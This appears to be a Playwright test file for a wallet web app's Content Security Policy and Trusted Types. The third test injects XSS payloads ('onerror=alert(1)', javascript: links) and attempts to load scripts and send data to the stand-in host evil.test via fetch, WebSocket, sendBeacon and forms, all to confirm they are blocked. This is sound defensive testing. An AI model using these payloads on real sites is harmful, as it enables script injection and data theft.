import { expect, test } from './support/fixtures.ts'
import { isSignedText } from './support/verify.ts'

/** In the page: makes a policy of Trusted Types. */
declare function makePolicy(name: string): void

test('the built page has no inline script, style or handler, and loads nothing from elsewhere', async ({ server }) => {
  const html = await (await fetch(`${server.url}/`)).text()
  expect(html).not.toMatch(/<style|\sstyle=|\son[a-z]+\s*=|javascript:|data:|https?:\/\//i)
  const scripts = [...html.matchAll(/<script\b([^>]*)>([^<]*)<\/script>/g)]
  expect(scripts.length).toBeGreaterThan(0)
  for (const [, attributes, inside] of scripts) {
    expect(attributes).toMatch(/src="\.\/assets\/[\w.-]+\.js"/)
    expect(inside).toBe('')
  }
})

test('a whole story, from the first page to a signature, breaks neither the content policy nor Trusted Types', async ({ person, watches }) => {
  const [anna, ben] = [await person('Anna'), await person('Ben')]
  const answers: Promise<string | undefined>[] = []
  anna.page.on('response', (response) => {
    if (/\/$|\/assets\/worker-/.test(response.url())) answers.push(response.headerValue('content-security-policy').then((policy) => policy ?? undefined))
  })
  await anna.createWallet({ name: 'Savings', devices: 2 })
  const [toBen = ''] = await anna.invitations(1)
  await anna.page.getByRole('button', { name: /^Show QR code/ }).first().click()
  await ben.join(toBen)
  await anna.makeTogether()
  await ben.approve()
  for (const who of [anna, ben]) await who.seesWallet()
  const publicKey = await anna.account('Ed25519 public key')
  await anna.writeText('Paid in full', 'Ben')
  await anna.ask()
  await ben.review('Anna')
  await ben.approve()
  expect(isSignedText('Paid in full', await anna.result('Signature (hex)'), publicKey)).toBe(true)

  // Both were in force: the page's, and the stricter one of the worker that holds the keys.
  const policies = await Promise.all(answers)
  expect(policies).toHaveLength(2)
  for (const policy of policies) expect(policy).toContain("default-src 'none'; script-src 'self'")
  for (const { seen } of watches.values()) expect(seen).toEqual([])
})

test('what is injected into the page is not run, and the watch sees each attempt', async ({ person, watches }) => {
  const anna = await person('Anna')
  await anna.open()
  await expect(anna.page.getByRole('button', { name: /^Create a wallet/ })).toBeVisible()
  const watch = watches.get(anna.page.context())
  if (watch === undefined) throw new Error('nobody watches')
  await anna.page.evaluate(() => {
    const factory = Reflect.get(window, 'trustedTypes') as { createPolicy(name: string, rules: object): unknown }
    Object.assign(window, { makePolicy: (name: string) => factory.createPolicy(name, { createHTML: (html: string) => html }) })
  })

  for (const [attempt, seen] of [
    [() => { document.body.innerHTML = '<img src=x onerror=alert(1)>' }, 'require-trusted-types-for'],
    [() => { document.body.insertAdjacentHTML('beforeend', '<p>') }, 'require-trusted-types-for'],
    [() => { document.createElement('div').setAttribute('onclick', 'alert(1)') }, 'require-trusted-types-for'],
    [() => { document.createElement('iframe').srcdoc = '<script>alert(1)</script>' }, 'require-trusted-types-for'],
    [() => { new Worker('/assets/evil.js') }, 'require-trusted-types-for'],
    [() => { new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))) }, 'require-trusted-types-for'],
    // Later, since a debugger may evaluate what a page may not, while it is in it.
    [() => { setTimeout(() => { Reflect.apply(Reflect.get(window, 'eval'), window, ['alert(1)']) }) }, 'require-trusted-types-for'],
    [() => { setTimeout(() => { Reflect.construct(Function, ['alert(1)']) }) }, 'require-trusted-types-for'],
    [() => { makePolicy('default') }, 'trusted-types'],
    [() => { makePolicy('trivet-worker') }, 'trusted-types'],
    [() => { document.body.append(Object.assign(document.createElement('script'), { textContent: 'alert(1)' })) }, 'require-trusted-types-for'],
    [() => { document.body.append(Object.assign(document.createElement('script'), { src: 'https://evil.test/x.js' })) }, 'require-trusted-types-for'],
    [() => { document.body.append(Object.assign(new Image(), { src: 'https://evil.test/x.png' })) }, 'img-src'],
    [() => { document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.test/' })) }, 'frame-src'],
    [() => { document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'https://evil.test/x.css' })) }, 'style-src'],
    [() => { document.head.append(Object.assign(document.createElement('style'), { textContent: 'body { display: none }' })) }, 'style-src'],
    [() => { document.head.append(Object.assign(document.createElement('base'), { href: 'https://evil.test/' })) }, 'base-uri'],
    [() => { void fetch('https://evil.test/').catch(() => undefined) }, 'connect-src'],
    [() => { new WebSocket('wss://evil.test/') }, 'connect-src'],
    [() => { navigator.sendBeacon('https://evil.test/', 'x') }, 'connect-src'],
    [() => {
      const form = Object.assign(document.createElement('form'), { action: 'https://evil.test/' })
      document.body.append(form)
      form.submit()
    }, 'form-action'],
    [() => {
      const link = Object.assign(document.createElement('a'), { href: 'javascript:alert(1)' })
      document.body.append(link)
      link.click()
    }, 'script-src'],
  ] as const) {
    await anna.page.evaluate(attempt).catch((error: unknown) => { expect(String(error)).toMatch(/TypeError|EvalError|SecurityError/) })
    await expect.poll(() => watch.seen, { message: String(attempt) }).toContainEqual(expect.stringContaining(seen))
    const lines = watch.take()
    expect(lines.filter((line) => !/^(violation|console|error): |^frame: chrome-error:/.test(line)), String(attempt)).toEqual([])
  }
  expect(new URL(anna.page.url()).pathname).toBe('/')
})

test('the worker that holds the keys reaches no network and runs no text', async ({ person, server, watches }) => {
  const anna = await person('Anna')
  const starting = anna.page.waitForEvent('worker')
  await anna.open()
  const worker = await starting
  for (const url of [`${server.url}/health`, 'https://evil.test/']) {
    expect(await worker.evaluate((to) => fetch(to).then(() => 'answered', (error: unknown) => String(error)), url)).toContain('TypeError')
  }
  expect(await worker.evaluate((to) => new Promise((resolve) => {
    const socket = new WebSocket(to)
    socket.onopen = () => { resolve('open') }
    socket.onerror = () => { resolve('refused') }
  }), server.url.replace('http', 'ws'))).toBe('refused')
  expect(await worker.evaluate(() => new Promise((resolve) => {
    // Later: see above.
    setTimeout(() => {
      try {
        resolve(String(Reflect.construct(Function, ['return 1'])))
      } catch (error) {
        resolve(String(error))
      }
    })
  }))).toMatch(/EvalError|TypeError/)
  watches.get(anna.page.context())?.take()
})
